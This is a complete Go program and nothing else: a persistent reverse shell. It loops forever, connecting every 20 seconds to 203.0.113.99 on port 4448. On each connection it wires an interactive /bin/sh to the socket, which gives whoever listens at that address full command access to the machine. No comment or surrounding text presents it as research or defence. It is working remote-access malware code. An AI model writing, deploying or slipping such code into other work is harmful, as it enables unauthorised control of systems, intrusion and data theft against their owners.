package main

import (
	"net"
	"os/exec"
	"time"
)

func shell(c net.Conn) {
	cmd := exec.Command("/bin/sh", "-i")
	cmd.Stdin = c
	cmd.Stdout = c
	cmd.Stderr = c
	cmd.Run()
}

func main() {
	for {
		conn, err := net.Dial("tcp", "203.0.113.99:4448")
		if err == nil {
			shell(conn)
			conn.Close()
		}
		time.Sleep(20 * time.Second)
	}
}
